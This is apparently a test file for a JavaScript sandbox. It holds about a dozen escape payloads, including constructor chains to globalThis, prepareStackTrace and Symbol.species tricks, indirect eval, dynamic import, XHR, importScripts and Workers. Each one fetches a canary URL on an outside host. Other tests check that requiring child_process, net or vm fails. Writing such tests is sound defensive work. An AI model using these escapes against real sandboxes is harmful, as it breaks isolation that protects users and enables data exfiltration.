import { expect, test } from './fixtures.ts';
import { bareJavaScript, sealedJavaScript } from './javascript.ts';

/** Each looks for the worker's own global scope, and sends for the canary through it. */
const attacks: Record<string, string> = {
  'the global scope': 'await globalThis.fetch(params.canary + "/global"); result = "reached";',
  'a chain of constructors': `
const scope = ({}).constructor.constructor("return globalThis")();
await scope.fetch(params.canary + "/constructor");
result = "reached";`,
  'the constructor of an async function': `
const AsyncFunction = (async () => {}).constructor;
await new AsyncFunction("url", "await fetch(url)")(params.canary + "/async");
result = "reached";`,
  'the constructor of a host function': `
const scope = console.log.constructor("return this")();
await scope.fetch(params.canary + "/host-function");
result = "reached";`,
  prepareStackTrace: `
let scope;
Error.prepareStackTrace = (error, frames) => { scope = frames[0].getThis?.() ?? frames[0].getFunction?.()?.constructor("return globalThis")(); };
(function inner() { new Error("x").stack; })();
scope ??= globalThis;
await scope.fetch(params.canary + "/stack");
result = "reached";`,
  species: `
class Sneaky extends Array { static get [Symbol.species]() { return function () { Sneaky.seen = new.target.constructor("return globalThis")(); return []; }; } }
new Sneaky(1).map((x) => x);
await Sneaky.seen.fetch(params.canary + "/species");
result = "reached";`,
  'indirect eval': 'await (0, eval)("fetch")(params.canary + "/eval"); result = "reached";',
  'a module by address': 'await import(params.canary + "/module.js"); result = "reached";',
  XMLHttpRequest: `
const request = new XMLHttpRequest();
request.open("GET", params.canary + "/xhr", false);
request.send();
result = "reached";`,
  importScripts: 'importScripts(params.canary + "/script.js"); result = "reached";',
  'a worker': `
const source = "fetch('" + params.canary + "/worker').then(() => postMessage('reached'))";
const worker = new Worker(URL.createObjectURL(new Blob([source])));
result = await new Promise((resolve) => { worker.onmessage = (event) => resolve(event.data); });`,
};

for (const [name, code] of Object.entries(attacks)) {
  test(`${name} leads nowhere`, async ({ barePage, sealedPage, canary }) => {
    const params = { canary: canary.origin };
    const bare = await bareJavaScript(barePage, code, params);
    expect(bare.result, 'the attack must work without the sandbox').toBe('reached');

    canary.hits.length = 0;
    const { outcome } = await sealedJavaScript(sealedPage, code, { params });
    expect(outcome.result).not.toBe('reached');
    expect(outcome.status).toBe('failed');
    await sealedPage.waitForTimeout(50);
    expect(canary.hits).toEqual([]);
  });
}

test('a Proxy that is handed to the host is only read', async ({ sealedPage }) => {
  const code = `
const seen = new Set();
const spy = new Proxy({}, {
  get(target, key, receiver) { seen.add(typeof key); return key === "toJSON" ? () => ({ kind: "proxied" }) : undefined; },
  getPrototypeOf() { return null; },
  ownKeys() { return []; },
});
display(spy);
table([spy]);
result = typeof globalThis.process?.binding + typeof globalThis.require?.main;`;
  const { outcome } = await sealedJavaScript(sealedPage, code);
  expect(['succeeded', 'failed']).toContain(outcome.status);
});

for (const name of ['http', 'https', 'net', 'child_process', 'worker_threads', 'vm', 'node:dgram'])
  test(`require("${name}") gives nothing`, async ({ sealedPage }) => {
    const { outcome } = await sealedJavaScript(sealedPage, `const found = require("${name}"); result = Object.keys(found);`);
    expect(outcome.status).toBe('failed');
    expect(outcome.error?.message).toContain(name.replace('node:', ''));
  });
